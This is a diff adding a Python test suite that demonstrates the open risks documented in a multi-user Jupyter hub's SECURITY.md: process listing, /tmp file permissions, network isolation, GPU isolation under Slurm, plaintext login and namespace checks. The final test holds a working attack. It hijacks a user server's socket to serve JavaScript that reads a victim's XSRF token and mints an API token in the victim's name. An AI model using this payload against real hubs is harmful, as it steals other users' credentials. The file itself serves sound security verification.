@@ -1,0 +1,109 @@
+"""hub/SECURITY.md, what stays open: each attack is shown to work, so that the sentence is known to be true."""
+
+import os
+import subprocess
+from pathlib import Path
+
+import people
+import requests
+from people import attack
+
+ENCLOSED = Path(os.environ.get("RINGTREE_HUB", "hub"), "server", "enclosed")
+
+
+def test_names_of_processes_are_seen_and_no_secret_is_among_them(hub, pair):
+    victim, attacker, theirs, known = pair
+    seen = theirs(f"print(open('/proc/{known['pid']}/cmdline').read())")
+    assert "ipykernel" in seen
+    secrets = [known["run"](f"import os; print(os.environ[{name!r}])") for name in ("JUPYTERHUB_API_TOKEN", "JPY_API_TOKEN")]
+    secrets += [victim.headers()["Authorization"].split()[1], victim.password]
+    secrets.append((hub.folder / "private" / "proxy-token").read_text())
+    listed = attacker.as_user("ps", "-e", "-ww", "-o", "args").stdout
+    assert "jupyterhub-singleuser" in listed and not [each for each in secrets if each in listed]
+
+
+def test_what_is_loose_in_tmp_can_be_read_and_the_mask_makes_it_tight(hub, pair):
+    victim, attacker, theirs, known = pair
+    path = f"/tmp/{victim.name}-note"
+    try:
+        known["run"](f"open({path!r}, 'w').write('mine')")
+        assert attack(theirs, f"open({path!r}).read()") == "PermissionError"
+        known["run"](f"import os; os.chmod({path!r}, 0o644)")
+        assert attack(theirs, f"open({path!r}).read()") == "mine"
+    finally:
+        os.unlink(path)
+
+
+def test_a_server_reaches_no_network(hub, pair):
+    victim, attacker, theirs, known = pair
+    assert theirs("import socket; print([name for _, name in socket.if_nameindex()])") == "['lo']"
+    for where in (("192.0.2.1", 80), ("127.0.0.1", hub.port)):
+        assert attack(theirs, f"socket.create_connection({where}, 5)") in ("OSError", "ConnectionRefusedError")
+
+
+def test_over_ssh_a_job_has_more_gpus_but_never_anothers_and_the_hosts_network(hub, pair):
+    victim, attacker, theirs, known = pair
+    opens = "".join(f"( : < {path} ) 2>&1 | grep -q 'not permitted' && echo refused;" for path in hub.gpus)
+    told = attacker.by_slurm("srun", "--gres=gpu:2", "--mem=200M", "bash", "-c", f"readlink /proc/self/ns/net; {opens} true")
+    assert told.stdout.count("refused") == 2, told.stdout + told.stderr
+    assert told.stdout.split()[0] == os.readlink("/proc/self/ns/net") != theirs("print(os.readlink('/proc/self/ns/net'))")
+    more = attacker.by_slurm("srun", "--gres=gpu:3", "--mem=200M", "--immediate=1", "true")
+    assert more.returncode != 0, "each server holds one GPU: three are not free"
+
+
+def test_a_neighbour_sees_that_somebody_works(hub, pair):
+    victim, attacker, theirs, known = pair
+    spent = f"print(sum(map(int, open('/proc/{known['pid']}/stat').read().rpartition(')')[2].split()[11:13])))"
+    before = int(theirs(spent))
+    known["run"]("import time; until = time.process_time() + 1\nwhile time.process_time() < until: pass")
+    assert int(theirs(spent)) - before >= 50  # hundredths of a second
+    assert theirs("import resource; print(resource.getrlimit(resource.RLIMIT_FSIZE)[0])") == "-1", "disk has a limit: say so"
+
+
+def test_the_login_goes_over_the_wire_as_it_is(hub, pair):
+    login = requests.get(f"{hub.address}/hub/login", timeout=30)
+    assert login.url.startswith("http://") and not any(cookie.secure for cookie in login.cookies)
+    assert "Strict-Transport-Security" not in login.headers
+
+
+def test_without_namespaces_a_server_does_not_start():
+    forbid = 'echo 0 > /proc/sys/user/max_net_namespaces && exec "$@"'
+    tried = ["unshare", "--user", "--map-root-user", "sh", "-c", forbid, "sh", ENCLOSED, "echo", "started"]
+    told = subprocess.run(tried, capture_output=True, text=True, timeout=30)
+    assert told.returncode != 0 and "started" not in told.stdout and "unshare" in told.stderr, told
+    assert "started" in subprocess.run([ENCLOSED, "echo", "started"], capture_output=True, text=True, timeout=30).stdout
+
+
+PAGE = """
+import os, socket, threading
+html = '''HTTP/1.0 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n<script>(async () => {
+    const home = await (await fetch("/hub/home")).text();
+    const xsrf = home.match(/xsrf_token: "([^"]+)"/)[1];
+    const made = await fetch("/hub/api/users/VICTIM/tokens?_xsrf=" + encodeURIComponent(xsrf), {
+        method: "POST", headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"}, body: "{}"});
+    document.title = "got " + made.status + " " + (await made.json()).token;
+})().catch(error => document.title = "got nothing: " + error)</script>'''
+def serve():
+    while True:
+        line, _ = trap.accept()
+        line.recv(65536); line.sendall(html.replace("VICTIM", name).encode()); line.close()
+os.rename(place, place + ".kept")
+trap = socket.socket(socket.AF_UNIX); trap.bind(place); os.chmod(place, 0o660); trap.listen()
+threading.Thread(target=serve, daemon=True).start()
+"""
+
+
+def test_who_opens_a_page_of_anothers_server_acts_for_its_owner(hub, chromium, pair):
+    victim, attacker, theirs, known = pair
+    place = str(hub.folder / "run" / attacker.name / "server.sock")
+    assert theirs(f"place, name = {place!r}, {victim.name!r}\n{PAGE}") == ""
+    try:
+        with people.at_the_hub(chromium, victim) as page:
+            page.wait_for_selector("#logout")
+            page.goto(f"{attacker.url}/look")
+            page.wait_for_function("document.title.startsWith('got')", timeout=30_000)
+            said = page.title()
+    finally:
+        theirs("os.unlink(place); os.rename(place + '.kept', place)")
+    headers = {"Authorization": f"token {said.split()[-1]}"}
+    assert requests.get(f"{hub.address}/hub/api/user", headers=headers, timeout=30).json()["name"] == victim.name, said
